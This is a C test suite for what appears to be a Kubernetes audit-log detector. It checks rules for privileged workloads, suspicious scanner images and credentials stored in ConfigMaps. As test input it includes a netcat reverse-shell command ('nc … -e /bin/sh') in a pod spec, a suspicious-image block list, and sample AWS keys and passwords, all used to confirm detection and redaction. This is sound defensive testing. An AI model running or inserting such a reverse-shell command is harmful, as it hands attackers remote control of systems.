	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'scan','apiGroup':'apps'}," OK201 ","
	      "'requestObject':{'spec':{'template':{'spec':{'initContainers':[{'name':'h',"
	      "'image':'aquasec/kube-hunter:0.6.8'}],'containers':[{'name':'app','image':"
	      "'nginx'}]}}}}}");
	v = flagged("privileged_workload", "high");
	expect_has(v, "evidence.podSecurity.suspiciousImages", "aquasec/kube-hunter:0.6.8");

	/* a reverse shell in a container's command and args */
	judge(POD_SPEC("{'containers':[{'name':'app','image':'alpine:3.19','command':['/bin/sh',"
		       "'-c'],'args':['nc 203.0.113.7 4444 -e /bin/sh']}]}"));
	v = flagged("privileged_workload", "critical");
	expect(v, "evidence.podSecurity.reverseShell.container", "app");
	expect(v, "evidence.podSecurity.reverseShell.form", "netcat -e");
	expect_reason(v, "container app opens a reverse shell (netcat -e)");
	expect_has(v, "attack", "T1059.004");
	/* the arguments themselves are not shown */
	ck_assert_ptr_null(strstr(v, "203.0.113.7"));

	/* near misses: a name that only contains a listed one, a tag named
	 * like one, a command that uses the network without a shell */
	judge(POD_SPEC("{'containers':[{'name':'app','image':'registry.example.com/"
		       "xmrig-exporter:1.0'},{'name':'b','image':'busybox:kube-hunter'}]}"));
	none("privileged_workload");
	judge(POD_SPEC("{'containers':[{'name':'app','image':'alpine:3.19','command':['sh','-c',"
		       "'until nc -z db 5432; do sleep 1; done']}]}"));
	none("privileged_workload");

	/* the list is policy: a caller's own image */
	ck_assert_int_eq(kag_registry_new(&r), KAG_OK);
	ck_assert_int_eq(kag_registry_policy_add(r, KAG_LIST_SUSPICIOUS_IMAGES,
						 "redteam/toolbox"), KAG_OK);
	fresh(r);
	judge_more(POD_SPEC("{'containers':[{'name':'t','image':'registry.example.com/redteam/"
			    "toolbox:2'}]}"));
	flagged("privileged_workload", "high");
	/* a long list is looked for in the body in batches: the last name
	 * counts as the first did */
	{
		char name[32];
		int i;

		ck_assert_int_eq(kag_registry_new(&r), KAG_OK);
		for (i = 1; i <= 60; i++) {
			snprintf(name, sizeof(name), "tools/t%02d", i);
			ck_assert_int_eq(kag_registry_policy_add(r, KAG_LIST_SUSPICIOUS_IMAGES, name),
					 KAG_OK);
		}
		fresh(r);
		judge_more(POD_SPEC("{'containers':[{'name':'t','image':'tools/t61:1'}]}"));
		none("privileged_workload");
		judge_more(POD_SPEC("{'containers':[{'name':'t','image':'tools/t60:1'}]}"));
		flagged("privileged_workload", "high");
	}
}
END_TEST

/* ---- configmap_credentials ---- */

#define CONFIGMAP(verb, data)                                                              \
	"{'verb':'" verb "','user':{'username':'dev@example.com'},'level':'Request',"         \
	"'objectRef':{'resource':'configmaps','namespace':'prod','name':'app-config'},"       \
	OK201 ",'requestObject':{'apiVersion':'v1','kind':'ConfigMap','data':" data "}}"

START_TEST(configmap_credentials)
{
	const char *v;

	/* an AWS key pair under its usual names */
	judge(CONFIGMAP("create", "{'region':'eu-west-1','aws_access_key_id':"
			"'AKIAIOSFODNN7EXAMPLE','aws_secret_access_key':"
			"'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}"));
	v = flagged("configmap_credentials", "high");
	expect_has(v, "evidence.configMapCredentials.keys", "aws_secret_access_key");
	expect_has(v, "evidence.configMapCredentials.forms", "cloud-access-key");
	expect_reason(v, "credential-like data under keys");
	expect_has(v, "attack", "T1552");
	ck_assert_ptr_null(strstr(v, "wJalrXUtnFEMI"));
	ck_assert_ptr_null(strstr(v, "AKIAIOSFODNN7EXAMPLE"));

	/* a password under its name, in a JSON Patch */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'configmaps','namespace':'prod','name':'db'}," OK200 ",'requestObject':"
	      "[{'op':'add','path':'/data/DB_PASSWORD','value':'Sup3rS3cretPw!'}]}");
	v = flagged("configmap_credentials", "medium");
	expect_has(v, "evidence.configMapCredentials.keys", "DB_PASSWORD");
	expect_has(v, "evidence.configMapCredentials.forms", "secret-named-key");
	ck_assert_ptr_null(strstr(v, "Sup3rS3cretPw"));

	/* near misses: settings about secrets, a public certificate, templates */
	judge(CONFIGMAP("create", "{'password_min_length':'12','token_ttl':'3600s',"
			"'secret_store':'/etc/app/secrets','api_token':'${API_TOKEN}',"
			"'ca.crt':'-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----'}"));
	none("configmap_credentials");
	/* a Metadata-level write shows no data */
	judge("{'verb':'update','user':{'username':'dev@example.com'},'level':'Metadata',"
	      "'objectRef':{'resource':'configmaps','namespace':'prod','name':'db'}," OK200 "}");
	none("configmap_credentials");
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("catalogue");
	TCase *tc;

	tc = tcase_create("docs");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, catalogue_ids_and_docs);
	suite_add_tcase(s, tc);

	tc = tcase_create("privileged_workload");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, privileged_falco_traces);
	tcase_add_test(tc, privileged_templates_and_container_kinds);
	tcase_add_test(tc, privileged_host_paths);
	tcase_add_test(tc, privileged_escaped_keys);
	tcase_add_test(tc, privileged_patches);
	tcase_add_test(tc, privileged_needs_body);
	suite_add_tcase(s, tc);

	tc = tcase_create("rbac_escalation");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, rbac_falco_traces);
	tcase_add_test(tc, rbac_roles);
	tcase_add_test(tc, rbac_system_roles);
	tcase_add_test(tc, rbac_bindings);
	suite_add_tcase(s, tc);

	tc = tcase_create("access");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, anonymous);
	tcase_add_test(tc, credentials_tokens);
	tcase_add_test(tc, credentials_csrs);
	tcase_add_test(tc, credentials_approvals);
	tcase_add_test(tc, node_proxy);
	tcase_add_test(tc, public_source);
	tcase_add_test(tc, public_source_trusted_networks);
	suite_add_tcase(s, tc);

	tc = tcase_create("changes");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, tampering);
	tcase_add_test(tc, persistence);
	tcase_add_test(tc, persistence_sequence);
	tcase_add_test(tc, exposure);
	suite_add_tcase(s, tc);

	tc = tcase_create("correlations");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, discovery);
	tcase_add_test(tc, new_user_agent);
	tcase_add_test(tc, secret_burst);
	tcase_add_test(tc, probing_burst_from_panther_event);
	suite_add_tcase(s, tc);

	tc = tcase_create("coverage");
	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_test(tc, exec_reverse_shells);
	tcase_add_test(tc, credentials_token_secrets);
	tcase_add_test(tc, privileged_read_only_and_shared_pid);
	tcase_add_test(tc, anonymous_oidc_discovery);
	tcase_add_test(tc, privileged_images_and_arguments);
	tcase_add_test(tc, configmap_credentials);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? 1 : 0;
}
